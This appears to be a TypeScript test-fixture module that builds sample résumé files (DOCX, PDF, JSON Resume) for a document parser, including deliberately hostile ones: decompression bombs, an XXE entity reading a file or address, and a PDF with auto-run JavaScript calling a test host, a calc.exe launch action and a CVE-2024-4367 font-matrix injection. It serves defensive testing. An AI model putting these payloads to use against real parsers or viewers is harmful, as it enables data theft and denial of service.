import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import { zipFile, type ZipPart } from './zip-file.ts'

const DOCUMENT_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const RELATIONSHIPS = 'http://schemas.openxmlformats.org/package/2006/relationships'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')

export const documentXml = (lines: readonly string[], prolog = ''): string =>
  `<?xml version="1.0" encoding="UTF-8"?>${prolog}<w:document xmlns:w="${WORD}"><w:body>` +
  lines.map((line) => `<w:p><w:r><w:t xml:space="preserve">${line}</w:t></w:r></w:p>`).join('') +
  '</w:body></w:document>'

/** The parts of a Word document with these paragraphs; `more` replaces a part of the same name. */
export const docxParts = (lines: readonly string[], more: ZipPart[] = []): ZipPart[] => {
  const parts: ZipPart[] = [
    {
      name: '[Content_Types].xml',
      content:
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        `<Override PartName="/word/document.xml" ContentType="${DOCUMENT_TYPE}"/></Types>`,
    },
    {
      name: '_rels/.rels',
      content:
        `<?xml version="1.0"?><Relationships xmlns="${RELATIONSHIPS}"><Relationship Id="rId1" ` +
        `Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
    },
    { name: 'word/document.xml', content: documentXml(lines.map((line) => escaped(line))) },
  ]
  const replaced = new Set(more.map(({ name }) => name))
  return [...parts.filter(({ name }) => !replaced.has(name)), ...more]
}

export const docx = (lines: readonly string[], more: ZipPart[] = []): Buffer =>
  zipFile(docxParts(lines, more))

/** A Word document whose one paragraph unpacks to so many megabytes. */
export const bombDocx = (megabytes: number): Buffer =>
  docx([], [{ name: 'word/document.xml', content: documentXml(['x'.repeat(megabytes * 1_048_576)]) }])

/** `&secret;` is the content of a file, or the answer of an address. */
export const xxeDocx = (target: string): Buffer => {
  const prolog = `<!DOCTYPE w:document [<!ENTITY secret SYSTEM "${target}">]>`
  return docx([], [{ name: 'word/document.xml', content: documentXml(['before &secret; after'], prolog) }])
}

interface PdfObject {
  facts: string
  stream?: Buffer
}

/** A PDF out of its objects, with a true table of their places. The first one is the catalog. */
const pdfOf = (objects: readonly PdfObject[], head = '%PDF-1.7\n'): Buffer => {
  const pieces: Buffer[] = [Buffer.from(head, 'latin1')]
  const places: number[] = []
  let length = pieces[0]!.length
  for (const [index, { facts, stream }] of objects.entries()) {
    const body = stream
      ? Buffer.concat([Buffer.from(`${facts}\nstream\n`), stream, Buffer.from('\nendstream')])
      : Buffer.from(facts)
    const object = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), body, Buffer.from('\nendobj\n')])
    places.push(length)
    pieces.push(object)
    length += object.length
  }
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  pieces.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\n` +
        `startxref\n${length}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(pieces)
}

/** One content stream for each page; all pages share the one typeface that every reader has. */
const pdfOfStreams = (streams: readonly PdfObject[], head?: string): Buffer => {
  const first = 4
  const kids = streams.map((_stream, index) => `${first + index * 2} 0 R`).join(' ')
  const pages = streams.flatMap((stream, index) => [
    {
      facts:
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${first + index * 2 + 1} 0 R ` +
        '/Resources << /Font << /F1 3 0 R >> >> >>',
    },
    stream,
  ])
  return pdfOf(
    [
      { facts: '<< /Type /Catalog /Pages 2 0 R >>' },
      { facts: `<< /Type /Pages /Kids [${kids}] /Count ${streams.length} >>` },
      { facts: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>' },
      ...pages,
    ],
    head,
  )
}

const plainStream = (content: string): PdfObject => ({
  facts: `<< /Length ${content.length} >>`,
  stream: Buffer.from(content, 'latin1'),
})

const shown = (lines: readonly string[]): string =>
  `BT /F1 11 Tf 14 TL 50 740 Td ${lines
    .map((line) => `(${line.replace(/[\\()]/g, String.raw`\$&`)}) Tj T*`)
    .join(' ')} ET`

/** A PDF with these lines on each page, in letters of Latin-1. */
export const pdf = (pages: readonly (readonly string[])[], head?: string): Buffer =>
  pdfOfStreams(
    pages.map((lines) => plainStream(shown(lines))),
    head,
  )

/** A scanned page: a picture, and not one letter. */
export const picturePdf = (): Buffer =>
  pdfOfStreams([
    plainStream('q 400 0 0 400 50 200 cm BI /W 2 /H 2 /CS /G /BPC 8 ID \u0000\u00ff\u00ff\u0000 EI Q'),
  ])

/** A page that unpacks to so many megabytes, packed twice: a few kilobytes on the way, and little more to make. */
export const bombPdf = (megabytes: number): Buffer => {
  const megabyte = deflateRawSync(Buffer.alloc(1_048_576, ' '), { finishFlush: constants.Z_FULL_FLUSH })
  const all = Array.from({ length: megabytes }, () => megabyte)
  const once = Buffer.concat([Buffer.from([0x78, 0x9c]), ...all, Buffer.from([3, 0, 0, 0, 0, 0])])
  const stream = deflateSync(once)
  return pdfOfStreams([
    { facts: `<< /Length ${stream.length} /Filter [/FlateDecode /FlateDecode] >>`, stream },
  ])
}

/** It asks for a password before it shows a page: the key in it fits none. */
export const encryptedPdf = (): Buffer => {
  const open = pdf([['Nobody reads this']]).toString('latin1')
  const secret = `<${'5a'.repeat(32)}>`
  const facts = `/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O ${secret} /U ${secret} >> /ID [<00> <00>]`
  return Buffer.from(open.replace('/Root 1 0 R', `/Root 1 0 R ${facts}`), 'latin1')
}

/** It would run a script when it is opened and when it is clicked on, start a program, and ask another host. */
export const hostilePdf = (): Buffer => {
  const script =
    '<< /S /JavaScript /JS (globalThis.taken = 1; app.alert\\(1\\); app.launchURL\\("http://192.0.2.1/js"\\)) >>'
  const uri = '<< /S /URI /URI (http://192.0.2.1/uri) >>'
  const launch = '<< /S /Launch /F (calc.exe) >>'
  const page = shown(['A harmless page'])
  return pdfOf([
    { facts: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${launch} >> >>` },
    { facts: '<< /Type /Pages /Kids [4 0 R] /Count 1 >>' },
    // A matrix of a typeface that once became program text: CVE-2024-4367.
    {
      facts:
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding ' +
        '/FontMatrix [1 2 3 4 5 (0\\); globalThis.taken = 1; //)] >>',
    },
    {
      facts:
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R /Resources << /Font << /F1 3 0 R >> >> ' +
        `/AA << /O ${script} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${uri} >>] >>`,
    },
    plainStream(page),
  ])
}

export const plainResume = [
  'Ada Álvarez-Lovelace',
  'Staff Engineer',
  'ada.lovelace@example.org | +44 20 7946 0958 | https://github.com/ada-lovelace',
  'linkedin.com/in/ada-lovelace',
  '',
  'Experience',
  '2015 - 2019 Analytical Engines Ltd',
  'Wrote the first program for a machine that was never built.',
]

export const jsonResumeFile = (more: object = {}): Buffer =>
  Buffer.from(
    JSON.stringify({
      $schema: 'https://raw.githubusercontent.com/jsonresume/resume-schema/v1.0.0/schema.json',
      basics: {
        name: 'Ada Lovelace',
        email: 'ada@example.org',
        phone: '+44 20 7946 0958',
        url: 'https://ada.example.org',
        summary: 'Notes on an engine.',
        profiles: [{ network: 'GitHub', username: 'ada', url: 'https://github.com/ada' }],
      },
      work: [{ name: 'Analytical Engines', position: 'Programmer', highlights: ['Bernoulli numbers'] }],
      ...more,
    }),
  )
